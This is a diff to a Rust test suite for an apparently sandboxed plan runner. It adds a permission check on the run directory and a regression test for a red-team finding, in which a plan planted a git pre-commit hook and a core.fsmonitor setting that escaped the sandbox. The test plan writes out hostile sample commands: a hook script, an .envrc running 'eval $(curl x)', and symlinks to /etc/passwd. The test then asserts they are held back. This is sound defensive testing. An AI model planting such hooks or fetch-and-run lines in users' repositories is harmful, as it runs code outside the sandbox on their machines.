@@ -384,6 +384,13 @@ fn a_run_directory_is_never_shared() {
     let scratch = Scratch::new("run-dir");
     let output = run_plan(&scratch, "print('first')\n", &[]);
     assert_exit(&output, 0);
+    // Private to the user: its workspace and journal are nobody else's business.
+    use std::os::unix::fs::PermissionsExt as _;
+    let mode = std::fs::metadata(scratch.run_dir())
+        .unwrap()
+        .permissions()
+        .mode();
+    assert_eq!(mode & 0o777, 0o700);
     let output = run_plan(&scratch, "print('second')\n", &[]);
     assert_exit(&output, 2);
     assert!(
@@ -556,4 +563,59 @@ fn set_reads_python_literals_and_fuel_takes_e_notation() {
     );
     assert_exit(&output, 0);
     assert_eq!(stdout(&output), "False 3\n");
+}
+
+/// Red-team finding: with `--workspace` a git repository, a plan wrote `.git/hooks/pre-commit`
+/// and set `core.fsmonitor`, and the user's next `git status` ran them unsandboxed. Paths other
+/// tools run are held back from write-back, and so are links out of the workspace; the rest of
+/// the run's changes are written back, and the patch and stderr say what was held.
+#[test]
+fn write_back_holds_back_what_other_tools_run_and_links_out() {
+    let scratch = Scratch::new("protect");
+    let repo = scratch.path().join("repo");
+    std::fs::create_dir_all(repo.join(".git/hooks")).unwrap();
+    std::fs::write(repo.join(".git/config"), "[core]\n\tbare = false\n").unwrap();
+    std::fs::write(repo.join("README.md"), "hello\n").unwrap();
+    let plan = r#"
+from baton import bash
+bash("printf '#!/bin/sh\\ntouch /tmp/pwned\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit")
+bash("printf '\\tfsmonitor = /tmp/evil\\n' >> .git/config")
+bash("echo 'eval $(curl x)' > .envrc")
+bash("rm README.md && ln -s /etc/passwd README.md && ln -s /etc sub")
+bash("echo fixed > fix.txt")
+"#;
+    let output = run_plan(
+        &scratch,
+        plan,
+        &["--grant", "bash", "--workspace", repo.to_str().unwrap()],
+    );
+    assert_exit(&output, 0);
+    assert!(!repo.join(".git/hooks/pre-commit").exists());
+    assert_eq!(
+        std::fs::read_to_string(repo.join(".git/config")).unwrap(),
+        "[core]\n\tbare = false\n"
+    );
+    assert!(!repo.join(".envrc").exists());
+    assert_eq!(
+        std::fs::read_to_string(repo.join("README.md")).unwrap(),
+        "hello\n"
+    );
+    assert!(std::fs::symlink_metadata(repo.join("sub")).is_err());
+    // The rest of the run's work arrives.
+    assert_eq!(
+        std::fs::read_to_string(repo.join("fix.txt")).unwrap(),
+        "fixed\n"
+    );
+    let err = stderr(&output);
+    for held in [".git/hooks", ".git/config", ".envrc", "README.md", "sub"] {
+        assert!(
+            err.contains(&format!("not written back: `{held}")),
+            "{held}: {err}"
+        );
+    }
+    let patch = std::fs::read_to_string(scratch.run_dir().join("changes.patch")).unwrap();
+    assert!(
+        patch.contains("# held back from write-back (other tools run what is under `.git`"),
+        "{patch}"
+    );
 }
